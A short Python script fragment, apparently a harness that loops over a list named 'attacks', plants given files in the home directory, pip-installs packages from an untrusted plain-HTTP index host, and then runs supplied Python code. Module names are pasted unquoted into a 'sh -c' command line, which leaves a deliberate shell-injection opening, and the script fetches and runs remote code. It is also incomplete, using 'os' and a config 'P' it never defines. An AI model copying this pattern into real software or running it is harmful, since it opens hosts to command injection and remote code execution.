# An installer that does what callers say: the modules stand in a shell's line as they were given.

import shutil
import subprocess

COMMAND = ("python3 -m pip install --quiet --disable-pip-version-check --no-build-isolation --retries 0 --timeout 60 "
           "--target /tmp/modules --trusted-host %s --index-url http://%s/simple/ " % (P["public"], P["public"]))
ENVIRONMENT = dict(os.environ, PIP_ROOT_USER_ACTION="ignore", PYTHONPATH="/tmp/modules")

HOME = os.path.expanduser("~")

for modules, code, variables, files in P["attacks"]:
    for file in files:
        place = os.path.join(HOME, file["name"])
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as written:
            written.write(file["text"])
    subprocess.run(["sh", "-c", COMMAND + modules], stdout=2, env=dict(os.environ, **variables))
    for file in files:
        os.unlink(os.path.join(HOME, file["name"]))
    if code:
        program = "import site; site.addsitedir('/tmp/modules')\n" + code
        subprocess.run(["python3", "-c", program], env=ENVIRONMENT)
    shutil.rmtree("/tmp/modules", ignore_errors=True)
